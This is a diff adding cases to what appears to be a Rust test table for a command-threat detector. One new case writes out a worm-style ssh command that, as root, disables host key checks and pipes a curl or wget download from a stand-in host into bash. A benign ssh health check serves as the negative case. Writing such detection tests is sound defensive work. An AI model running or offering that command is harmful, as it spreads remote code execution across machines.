@@ -936,6 +936,21 @@ fn exec_table() -> Vec<Case> {
             vec!["exec-miner-competitor-kill"],
         ),
         user(vec!["pkill", "-f", "gunicorn"], vec![]),
+        // A miner worm's spread: a download piped into a shell on the next host.
+        user(
+            vec![
+                "ssh",
+                "-oStrictHostKeyChecking=no",
+                "-oBatchMode=yes",
+                "root@10.0.0.7",
+                "(curl -fsSL http://h/x.sh||wget -q -O- http://h/x.sh)|bash",
+            ],
+            vec!["exec-remote-download-pipe-shell"],
+        ),
+        user(
+            vec!["ssh", "web1", "curl -s http://localhost/health | jq ."],
+            vec![],
+        ),
         // A program fetched and executed in-process by an interpreter one-liner.
         user(
             vec![
